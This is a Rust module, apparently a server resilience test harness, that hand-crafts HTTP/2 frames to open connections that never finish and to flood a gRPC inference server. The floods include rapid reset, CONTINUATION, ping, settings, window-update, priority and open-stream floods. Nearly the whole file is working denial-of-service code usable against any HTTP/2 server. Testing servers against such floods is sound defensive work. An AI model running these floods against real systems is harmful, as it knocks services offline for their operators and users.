//! Floods of HTTP/2 frames, written by hand: client libraries do not send them.

use crate::connect;
use std::io::{self, Read, Write};
use std::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Error codes.
const CANCEL: u32 = 8;

/// The setting of the window that a client opens for each answer.
const INITIAL_WINDOW_SIZE: u16 = 4;

/// RPCs that need no model and no rights.
const LIVE: &str = "/inference.GRPCInferenceService/ServerLive";
const STREAM: &str = "/inference.GRPCInferenceService/ModelStreamInfer";

/// The answer to [`LIVE`]: a message with the flag `live`.
const IS_LIVE: [u8; 7] = [0, 0, 0, 0, 2, 8, 1];

/// A request whose client keeps it from ending.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lasting {
    /// A message that arrives byte by byte.
    SlowMessage,
    /// A stream without messages.
    SilentStream,
    /// A complete request whose answer has no window.
    NoWindow,
    /// A complete request whose answer gets a window of one byte at a time.
    TinyWindow,
}

impl Lasting {
    /// All of them.
    pub const ALL: [Lasting; 4] = [Lasting::SlowMessage, Lasting::SilentStream, Lasting::NoWindow, Lasting::TinyWindow];

    /// Opens a connection, and begins this many requests on it.
    ///
    /// # Errors
    /// If the server does not accept it.
    pub fn open(self, address: &str, requests: u32) -> io::Result<Held> {
        let mut stream = connect(address)?;
        stream.write_all(PREFACE)?;
        let window = match self {
            Lasting::NoWindow | Lasting::TinyWindow => 0,
            Lasting::SlowMessage | Lasting::SilentStream => 65_535_u32,
        };
        let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
        stream.write_all(&frame(SETTINGS, 0, 0, &setting))?;
        for number in 0..requests {
            let id = 2 * number + 1;
            let (path, flags, message): (_, _, &[u8]) = match self {
                // A message of 1 KiB, and its first byte.
                Lasting::SlowMessage => (LIVE, 0, &[0, 0, 0, 4, 0, 10]),
                Lasting::SilentStream => (STREAM, 0, &[]),
                Lasting::NoWindow | Lasting::TinyWindow => (LIVE, END_STREAM, &[0; 5]),
            };
            let head = frame(HEADERS, END_HEADERS, id, &head(path));
            let body = if message.is_empty() { Vec::new() } else { frame(DATA, flags, id, message) };
            stream.write_all(&[head, body].concat())?;
        }
        Ok(Held { stream, kind: self, requests })
    }
}

/// A connection with requests that do not end.
#[derive(Debug)]
pub struct Held {
    stream: TcpStream,
    kind: Lasting,
    requests: u32,
}

impl Held {
    /// Advances each request by one byte, if its kind sends any. Returns false if the server has closed
    /// the connection.
    pub fn trickle(&mut self) -> bool {
        let part = |id: u32| match self.kind {
            Lasting::SlowMessage => frame(DATA, 0, id, b" "),
            Lasting::TinyWindow => frame(WINDOW_UPDATE, 0, id, &1_u32.to_be_bytes()),
            Lasting::SilentStream | Lasting::NoWindow => Vec::new(),
        };
        let parts: Vec<u8> = (0..self.requests).flat_map(|number| part(2 * number + 1)).collect();
        // An unrequested answer to a ping. Its write fails if the connection is closed.
        let pong = frame(PING, ACK, 0, &[0; 8]);
        self.stream.write_all(&[parts, pong].concat()).is_ok()
    }
}

/// Asks on a new connection whether the server is live, as a client library does.
///
/// # Errors
/// If it does not answer, or with an error.
pub fn is_live(address: &str) -> io::Result<()> {
    let mut stream = connect(address)?;
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head(LIVE)))?;
    stream.write_all(&frame(DATA, END_STREAM, 1, &[0; 5]))?;
    let mut answer = Vec::new();
    loop {
        let next = read_frame(&mut stream)?;
        match next.kind {
            DATA => answer.extend(next.payload),
            HEADERS if next.flags & END_STREAM != 0 => break,
            RST_STREAM | GOAWAY => return Err(io::ErrorKind::ConnectionReset.into()),
            _ => {}
        }
    }
    match answer == IS_LIVE {
        true => Ok(()),
        false => Err(io::Error::new(io::ErrorKind::InvalidData, format!("an answer of {} bytes", answer.len()))),
    }
}

/// What a client sends until the server ends the connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Opens streams and resets each at once.
    RapidReset,
    /// Pings.
    Pings,
    /// Settings.
    Settings,
    /// A head that does not end.
    Continuations,
    /// Empty parts of one body.
    EmptyData,
    /// Windows of one byte for all answers together.
    WindowUpdates,
    /// Priorities, which have no meaning any more, for streams that do not exist.
    Priorities,
    /// Requests that do not end, many more than the server allows at one time.
    OpenStreams,
    /// Requests with more bytes than they announce, which the server has to reset.
    BrokenStreams,
}

impl Flood {
    /// All floods.
    pub const ALL: [Flood; 9] = [
        Flood::RapidReset,
        Flood::Pings,
        Flood::Settings,
        Flood::Continuations,
        Flood::EmptyData,
        Flood::WindowUpdates,
        Flood::Priorities,
        Flood::OpenStreams,
        Flood::BrokenStreams,
    ];

    /// Whether the server has to end the connection: the frames cost it memory, or work for nothing.
    pub fn is_ended(self) -> bool {
        matches!(self, Flood::RapidReset | Flood::Continuations | Flood::BrokenStreams)
    }

    /// Sends this many frames, or pairs of frames, on a new connection. Another thread reads the
    /// answers, so that the server can always write.
    ///
    /// # Errors
    /// If there is no server.
    pub fn run(self, address: &str, frames: u32) -> io::Result<End> {
        let mut stream = connect(address)?;
        stream.write_all(PREFACE)?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
        let reading = stream.try_clone()?;
        let reader = std::thread::spawn(move || read_to_end(reading));
        if matches!(self, Flood::Continuations) {
            stream.write_all(&frame(HEADERS, 0, 1, &head(LIVE)))?;
        } else if matches!(self, Flood::EmptyData) {
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head(LIVE)))?;
        }
        let mut sent = 0;
        while sent < frames {
            let batch: Vec<u8> = (sent..(sent + 64).min(frames)).flat_map(|index| self.part(index)).collect();
            // The server may have ended the connection.
            if stream.write_all(&batch).is_err() {
                break;
            }
            sent = (sent + 64).min(frames);
        }
        let _ = stream.shutdown(std::net::Shutdown::Write);
        let goaway = reader.join().unwrap_or(None);
        Ok(End { sent, goaway })
    }

    fn part(self, index: u32) -> Vec<u8> {
        match self {
            Flood::RapidReset => {
                let stream = 2 * index + 1;
                let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(LIVE));
                [open, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
            }
            Flood::Pings => frame(PING, 0, 0, &[0; 8]),
            Flood::Settings => frame(SETTINGS, 0, 0, &[]),
            Flood::Continuations => frame(CONTINUATION, 0, 1, &header("x-more", &"y".repeat(100))),
            Flood::EmptyData => frame(DATA, 0, 1, &[]),
            Flood::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Flood::Priorities => frame(PRIORITY, 0, 2 * index + 1, &[0, 0, 0, 0, 16]),
            Flood::OpenStreams => frame(HEADERS, END_HEADERS, 2 * index + 1, &head(LIVE)),
            Flood::BrokenStreams => {
                let stream = 2 * index + 1;
                let head = [head(LIVE), header("content-length", "1")].concat();
                [frame(HEADERS, END_HEADERS, stream, &head), frame(DATA, 0, stream, b"ab")].concat()
            }
        }
    }
}

/// How a flood ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct End {
    /// Frames, or pairs of frames, that could be sent.
    pub sent: u32,
    /// The error code with which the server ended the connection, if it named one.
    pub goaway: Option<u32>,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header as HPACK writes it without tables.
fn header(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// The head of a gRPC request.
fn head(path: &str) -> Vec<u8> {
    [
        header(":method", "POST"),
        header(":scheme", "http"),
        header(":path", path),
        header(":authority", "localhost"),
        header("content-type", "application/grpc"),
        header("te", "trailers"),
    ]
    .concat()
}

/// A frame of the server.
struct Frame {
    kind: u8,
    flags: u8,
    payload: Vec<u8>,
}

fn read_frame(stream: &mut TcpStream) -> io::Result<Frame> {
    let mut head = [0; 9];
    stream.read_exact(&mut head)?;
    let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
    let mut payload = vec![0; length];
    stream.read_exact(&mut payload)?;
    Ok(Frame { kind: head[3], flags: head[4], payload })
}

/// Reads frames until the connection ends. Returns the code of the last GOAWAY.
fn read_to_end(mut stream: TcpStream) -> Option<u32> {
    let mut code = None;
    while let Ok(Frame { kind, flags, payload }) = read_frame(&mut stream) {
        if kind == GOAWAY
            && let Some(bytes) = payload.get(4..8)
        {
            code = bytes.try_into().ok().map(u32::from_be_bytes);
        }
        if kind == SETTINGS && flags & ACK == 0 {
            let _ = stream.write_all(&frame(SETTINGS, ACK, 0, &[]));
        }
    }
    code
}
